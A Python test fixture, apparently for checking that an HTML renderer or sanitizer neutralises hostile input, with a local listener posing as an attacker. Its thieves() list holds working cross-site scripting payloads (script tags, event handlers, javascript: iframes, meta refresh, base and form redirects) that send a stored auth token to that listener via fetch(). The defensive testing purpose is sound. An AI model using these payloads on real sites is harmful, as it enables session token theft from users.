"""Texts that do harm, or are not shown, where a page takes them for HTML; and the attacker who waits."""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


class Attacker:
    """Listens on a port of its own; `heard` are the paths that somebody asked for."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        heard = self.heard

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(self.path)
                self.send_response(200)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, format: str, *arguments: object) -> None:
                """Says nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self._server.serve_forever, args=(0.02,), daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_port}"

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()

    def steal(self, name: str) -> str:
        """A script that sends the token of whoever looks at it."""
        token = 'parent.localStorage.getItem("auth._token.local")'
        return f'fetch("{self.url}/{name}?t="+{token},{{mode:"no-cors"}})'


def thieves(attacker: Attacker) -> list[str]:
    """Texts that send the token of whoever looks at them, where a page takes them for HTML."""
    steal, url = attacker.steal, attacker.url
    return [
        f"<script>{steal('script')}</script><p>x</p>",
        f"hello <img src=x onerror='{steal('handler')}'> bye",
        f"<b>x</b><svg onload='{steal('svg')}'><animate onbegin='{steal('animate')}' attributeName=x dur=1s>",
        f"<iframe srcdoc='&lt;script&gt;parent.{steal('frame')}&lt;/script&gt;'></iframe>",
        f'<p>x</p><iframe src="javascript:{steal("address").replace(chr(34), chr(39))}"></iframe>',
        f"<details open ontoggle='{steal('toggle')}'>x</details>",
        f"<input autofocus onfocus='{steal('focus')}'> <video><source onerror='{steal('source')}'></video>",
        f'<object data="{url}/object">x</object> <embed src="{url}/embed">',
        f"<img src='{url}/image.png'> <link rel=stylesheet href='{url}/link.css'>",
        f"<style>@import url('{url}/style.css'); body {{ display: none }}</style>",
        f"<p>x</p><meta http-equiv=refresh content='0; url={url}/refresh'>",
        f"<p>x</p><base href='{url}/base/'><img src=relative.png>",
        f"<form action='{url}/form'><button autofocus>Submit</button></form>",
    ]


PLAIN = (
    "From: John Doe <john.doe@example.com> Subject: if a<b then c; AT&amp;T vector<int> x; 5 < 6 end",
    "<style>body{display:none}</style>",
    "if (a<b && c>d) { x &= y; } // R&D &lt;b&gt; &#60; &amp;amp; &nbsp; &copy &notanentity",
    "half a tag <b and <!-- a comment and <![CDATA[ x ]]> and <?php echo 1 ?> and </p></div></body>",
    "**bold** _it_ `code` [link](javascript:alert(1)) ![image](x.png) # no title\n\n- item\n> quote",
    "two  spaces,\ta tab,\n\na blank line and\r\na carriage return",
    "$\\href{javascript:alert(1)}{x}$ {{ constructor.constructor('alert(1)')() }} ${7*7}",
    "\N{RIGHT-TO-LEFT OVERRIDE}evil\N{POP DIRECTIONAL FORMATTING} שלום \N{PILE OF POO} 中文 'single' \"two\"",
)
"""Texts of mail, code and scraped pages, which a page must show as they are."""
